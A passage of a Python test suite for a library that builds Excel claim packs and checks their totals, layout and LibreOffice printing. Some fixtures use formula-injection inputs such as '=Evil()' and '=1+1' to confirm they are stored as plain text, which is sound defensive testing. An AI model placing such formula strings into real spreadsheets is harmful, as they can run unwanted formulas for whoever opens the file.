    assert ws["B4"].value == datetime(2020, 10, 4)
    assert ws["B5"].value == datetime(2020, 10, 5, 9, 30) and "UTC" in ws["B5"].number_format
    assert ws["C3"].value == datetime(2020, 10, 1) and ws["C3"].number_format == "mmm yyyy"
    assert ws["D3"].value == 3 and ws["D5"].value is None
    assert ws["E4"].number_format == MONEY_FORMAT and as_decimal(ws["E4"].value) == Decimal("-1234.56")
    assert ws["F3"].value == "'=2+2" and ws["F3"].data_type == "s"
    assert ws["F4"].alignment.wrap_text
    assert ws["A6"].value == "Total" and ws["E6"].value == "=SUM(E3:E5)"
    assert Evaluator(wb).value(ws.title, "E6") == Decimal("-1222.06")
    assert ws.freeze_panes == "A3" and ws.auto_filter.ref == "A2:F5" and ws.print_title_rows == "$1:$2"
    empty = wb["Empty"]
    assert empty["A1"].value == "Patient" and empty["A2"].value == "No rows" and empty.freeze_panes == "A2"
    for sheet in wb:
        assert sheet.page_setup.orientation == "landscape" and int(sheet.page_setup.paperSize) == 9
        assert fit_to(sheet.page_setup) == (1, 0)


def test_table_workbook_rejects_float_money_and_bad_dates():
    money_column = (Column("amount", "Amount (£)", "money"),)
    with pytest.raises(TypeError, match="row 1, Amount"):
        table_workbook_bytes([Sheet("s", money_column, ({"amount": 1.5},))])
    with pytest.raises(ValueError, match="not an ISO date"):
        table_workbook_bytes([Sheet("s", (Column("d", "Date", "date"),), ({"d": "03/10/2020"},))])
    with pytest.raises(ValueError, match="unknown kind"):
        table_workbook_bytes([Sheet("s", (Column("d", "D", "colour"),), ())])


def test_sheet_titles_are_made_unique():
    column = (Column("a", "A", "text"),)
    wb = read(table_workbook_bytes([Sheet("x" * 40, column, ()), Sheet("X" * 40, column, ())]))
    assert wb.sheetnames == ["x" * 31, "X" * 27 + " (2)"]


# --- LibreOffice: print and recalculate ----------------------------------------------------

SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
needs_office = pytest.mark.skipif(not SOFFICE and not os.environ.get("CI"), reason="LibreOffice is not installed")


class Conversion:
    """A LibreOffice conversion of a pack, with a private profile, started at once and waited for when its result
    is needed."""

    def __init__(self, base: Path, pack: ClaimPack, target: str):
        base.mkdir(parents=True)
        self.source, self.out, self.target = base / "pack.xlsx", base / f"out-{target}", target
        self.source.write_bytes(claim_pack_bytes(pack))
        self.process = subprocess.Popen(
            [SOFFICE, f"-env:UserInstallation={(base / 'lo-profile').as_uri()}", "--headless", "--convert-to", target,
             "--outdir", str(self.out), str(self.source)], stdout=subprocess.PIPE, stderr=subprocess.PIPE)

    def result(self) -> Path:
        """The converted file's path."""
        _, err = self.process.communicate(timeout=240)
        assert self.process.returncode == 0, err
        converted = self.out / (self.source.stem + "." + self.target)
        assert converted.exists(), f"LibreOffice wrote nothing for {self.source.name}"
        return converted


def large_pack(errors: int = 60, warnings: int = 3_000, lines: int = 16_000) -> ClaimPack:
    """A national-size month: thousands of lines and findings, some errors acknowledged with a reason."""
    base = make_pack(lines=lines, adjustments=1_500, findings=None)
    rows = [{**finding("HDS-DOUBLE-FREE", "error", "4.4", f"episode E{n:07d}", money(10_000 + n), "paid twice"),
             "subject": f"D{n:07d}+D{n + 1:07d}",
             "acknowledged": f"accepted by j.smith: both packages agreed with the provider ({n})" if n % 2 else ""}
            for n in range(errors)]
    rows += [{**finding("HDS-NO-NHS", "warning", "3.5", f"discharge D{n:07d}", None, "no NHS number"),
              "subject": f"D{n:07d}", "acknowledged": ""} for n in range(warnings)]
    return replace(base, findings=Report("Findings", keys(FINDING_COLUMNS), tuple(rows)))


def short_pack() -> ClaimPack:
    return make_pack(lines=60, adjustments=8, blocks=3)


def odd_pack() -> ClaimPack:
    """A pack whose organisations SUMIFS could match wrongly: wildcards, a formula, blank, a prefix, case."""
    odd = make_pack(lines=40, adjustments=10, blocks=2)
    lines = list(odd.lines)
    lines[0] = replace(lines[0], organisation="St Mary's*")
    lines[1] = replace(lines[1], organisation="=Evil()")
    lines[2] = replace(lines[2], organisation="")
    lines[3] = replace(lines[3], organisation="St Mary's Hospital")
    lines[4] = replace(lines[4], organisation="occ")
    return replace(odd, lines=tuple(lines))


@pytest.fixture(scope="module", autouse=True)
def office(tmp_path_factory):
    """The module's two LibreOffice conversions, started side by side when its first test starts: LibreOffice
    takes one or two seconds to start, which pass while the tests before the two that need it run."""
    if not SOFFICE:
        yield {}
        return
    base = tmp_path_factory.mktemp("office")
    conversions = {"print": Conversion(base / "print", short_pack(), "pdf"),
                   "recalculate": Conversion(base / "recalculate", odd_pack(), "xlsx"),
                   "large": Conversion(base / "large", large_pack(), "pdf")}
    yield conversions
    for conversion in conversions.values():
        conversion.process.communicate(timeout=240)


def converted(office: dict, name: str) -> Path:
    assert SOFFICE, "LibreOffice (soffice) is required when CI is set"
    return office[name].result()


def pdf_pages(pdf: Path) -> list[str]:
    """The text of each page (pdftotext when poppler is installed, else page markers only)."""
    if shutil.which("pdftotext"):
        text = subprocess.run(["pdftotext", "-layout", str(pdf), "-"], capture_output=True, text=True,
                              check=True).stdout
        return text.split("\f")[:-1] if text.endswith("\f") else text.split("\f")
    return ["" for _ in re.findall(rb"/Type\s*/Page[^s]", pdf.read_bytes())]


@needs_office
def test_libreoffice_prints_a_short_pack_on_few_pages(office):
    pdf = converted(office, "print")  # short_pack(), printed
    pages = pdf_pages(pdf)
    assert 8 <= len(pages) <= 12, len(pages)
    if shutil.which("pdfinfo"):
        info = subprocess.run(["pdfinfo", "-f", "1", "-l", str(len(pages)), str(pdf)], capture_output=True,
                              text=True, check=True).stdout
        sizes = re.findall(r"Page\s+\d+ size:\s+([\d.]+) x ([\d.]+) pts", info)
        assert len(sizes) == len(pages)
        assert all(abs(float(w) - 842) < 2 and abs(float(h) - 595) < 2 for w, h in sizes), set(sizes)  # A4 across
    if not any(pages):
        return
    by_sheet: dict[str, list[str]] = defaultdict(list)
    for page in pages:
        by_sheet[page.strip().split("  ")[0]].append(page)
    assert len(by_sheet["Summary"]) == 3  # the certificate, its error findings and counts, the breakdowns
    assert len(by_sheet["Current lines"]) == 2 and len(by_sheet["Adjustments"]) == 1
    # one page wide: every page of a line sheet carries the header row and the last column
    for page in by_sheet["Current lines"] + by_sheet["Adjustments"]:
        assert "Patient" in page and "Amount" in page, page[:200]
    assert all("Reason" in page for page in by_sheet["Adjustments"])
    first = by_sheet["Summary"][0]
    for words in ("Total claim", "Prepared by", "Checked by", "Approved by", "Signature", "Page 1 of"):
        assert words in first


@needs_office
def test_libreoffice_recalculates_the_totals(office):
    odd = odd_pack()
    wb = load_workbook(converted(office, "recalculate"), data_only=True)  # odd_pack(), recalculated
    ws = wb["Summary"]
    rows = summary_rows(ws)

    def shown(row: int, column: int = 4) -> Decimal:
        value = ws.cell(row, column).value
        assert isinstance(value, (int, float)), (row, column, value)
        return Decimal(str(round(value, 2)))

    assert shown(rows["Total claim"]) == sum(l.amount for l in odd.lines + odd.adjustments)
    assert shown(rows["Adjustments for earlier months"]) == sum(l.amount for l in odd.adjustments)
    assert shown(rows["Block costs, October 2020"]) == sum(l.amount for l in odd.lines if l.kind == "block")
    assert shown(rows["Individual lines, October 2020"]) == sum(
        l.amount for l in odd.lines if l.kind == "individual")
    for key, title in (("scheme", "By scheme"), ("organisation", "By organisation")):
        current, adjusted = expected_by(odd, key, "lines"), expected_by(odd, key, "adjustments")
        start = row_labelled(ws, title)
        for (cell,) in ws.iter_rows(min_row=start + 1, min_col=1, max_col=1):
            if cell.value == "Total":
                break
            assert shown(cell.row, 2) == current.get(cell.value, 0), (title, cell.value)
            assert shown(cell.row, 4) == current.get(cell.value, 0) + adjusted.get(cell.value, 0)
    lines_total = wb["Current lines"].cell(3 + len(odd.lines), 10).value
    assert Decimal(str(round(lines_total, 2))) == sum(l.amount for l in odd.lines)


def test_a_pack_read_from_a_later_load_says_so(pack):
    later = replace(pack, load_id=16, rulebook_version="2020.4")
    ws = read(claim_pack_bytes(later))["Summary"]
    rows = summary_rows(ws)
    assert ws.cell(rows["Load"], 2).value == 15  # what was submitted
    assert ws.cell(rows["This pack read"], 2).value == "load 16, rulebook version 2020.4"
    assert "This pack read" not in summary_rows(read(claim_pack_bytes(pack))["Summary"])


# --- a pack that prints: the certificate, summaries, every line kept ------------------------

DETAIL = ("Current lines", "Adjustments", "Block costs", "Findings")


def test_a_large_pack_keeps_every_line_and_finding_on_sheets_that_do_not_print():
    pack = large_pack()
    wb = read(claim_pack_bytes(pack))
    assert [wb[t].sheet_state for t in DETAIL] == ["hidden"] * 4
    assert all(wb[t].sheet_state == "visible" for t in ("Summary", "Reconciliation", "Recharge"))
    patients = {c.value for (c,) in wb["Current lines"].iter_rows(min_row=3, min_col=2, max_col=2) if c.value}
    assert patients == {line.patient_id for line in pack.lines if line.patient_id}
    codes = [c.value for (c,) in wb["Findings"].iter_rows(min_row=3, min_col=1, max_col=1) if c.value]
    assert len(codes) == len(pack.findings.rows)
    summary = [c.value for (c,) in wb["Summary"].iter_rows(min_col=1, max_col=1) if isinstance(c.value, str)]
    assert any(v.startswith("Every line (16,000 for October 2020, 1,500 adjustments) and every finding") for v in summary)


def test_a_short_pack_prints_its_lines():
    wb = read(claim_pack_bytes(short_pack()))
    assert all(wb[t].sheet_state == "visible" for t in wb.sheetnames)


def test_page_one_lists_every_error_with_its_acknowledgement_and_reason_in_their_own_columns():
    pack = large_pack(errors=6, warnings=4, lines=40)
    ws = read(claim_pack_bytes(pack))["Summary"]
    head = row_labelled(ws, "Error finding (CODE:SUBJECT)")
    assert [ws.cell(head, c).value for c in (2, 3, 4)] == ["At stake (£)", "Acknowledged by", "Reason"]
    rows = [[ws.cell(head + n, c).value for c in range(1, 5)] for n in range(1, 7)]
    assert rows[0] == ["HDS-DOUBLE-FREE:D0000000+D0000001", 100.0, "not acknowledged", None]
    assert rows[1] == ["HDS-DOUBLE-FREE:D0000001+D0000002", 100.01, "j.smith",
                       "both packages agreed with the provider (1)"]
    assert ws.cell(head + 7, 1).value is None or not str(ws.cell(head + 7, 1).value).startswith("HDS-")
    sign = row_labelled(ws, "Sign-off: the claim for October 2020...")
    assert sign < head  # the sign-off stays on page 1, above the errors it covers
    codes = row_labelled(ws, "Findings by code")
    assert [ws.cell(codes + 1, c).value for c in range(1, 5)] == ["HDS-DOUBLE-FREE", "error", "4.4", 6]


def test_a_draft_pack_has_a_place_for_its_fingerprint():
    draft = replace(make_pack(status="draft"), fingerprint="ab" * 32)
    rows = summary_rows(read(claim_pack_bytes(draft))["Summary"])
    assert "Fingerprint of the figures" in rows
    assert "Fingerprint (SHA-256)" not in summary_rows(read(claim_pack_bytes(make_pack(status="draft")))["Summary"])


def test_an_empty_adjustments_sheet_has_no_total_under_its_note():
    ws = read(claim_pack_bytes(make_pack(adjustments=0)))["Adjustments"]
    values = [c.value for row in ws.iter_rows() for c in row if c.value is not None]
    assert "No adjustments to earlier months" in values and "Total" not in values


@needs_office
def test_libreoffice_prints_a_national_month_on_at_most_twelve_pages(office):
    pages = pdf_pages(converted(office, "large"))
    assert len(pages) <= 12, len(pages)
    if any(pages):
        certificate = "".join(p for p in pages if p.strip().startswith("Summary"))  # errors run on overleaf
        for words in ("Total claim", "Prepared by", "Approved by", "Error finding", "Acknowledged by", "Reason",
                      "both packages agreed with the provider (59)", "Findings by code"):
            assert words in certificate, words
        assert "Prepared by" in pages[0] and "Page 1 of" in pages[0]


TRICKY_TEXT = ["plain", "A&B <c> \"d\"", "_x0041_ stays as typed", " leading", "trailing ", "two\nlines",
               "bell\x07rings", "tab\there", "\u00a0no-break", "£1,234.50", "=1+1", "-5", "x" * 40_000, "é" * 70]


@pytest.mark.parametrize("repeated", [False, True])
def test_table_text_reads_back_as_xlsxwriter_writes_it(repeated):
    """Table rows are written as prepared XML (shared strings for a column of few values, text in the
    cell for the rest): every value reads back exactly as XlsxWriter's own write_string leaves it."""
    from xlsxwriter import Workbook

    from claims.report.excel import _clean

    values = TRICKY_TEXT * (8 if repeated else 1)
    column = (Column("note", "Note", "text"),)
    ours = read(table_workbook_bytes([Sheet("s", column, tuple({"note": v} for v in values))]))["s"]
    theirs_file = io.BytesIO()
    book = Workbook(theirs_file, {"in_memory": True, "strings_to_formulas": False, "strings_to_numbers": False,
                                  "strings_to_urls": False})
    sheet = book.add_worksheet("s")
    for n, value in enumerate(values):
        sheet.write_string(n, 0, _clean(value))
    book.close()
    theirs = read(theirs_file.getvalue())["s"]
    assert [ours.cell(n + 2, 1).value for n in range(len(values))] == [theirs.cell(n + 1, 1).value
                                                                       for n in range(len(values))]
    assert ours.cell(2 + values.index(" leading"), 1).value == " leading"
    assert len(ours.cell(2 + values.index("x" * 40_000), 1).value) == 32_767
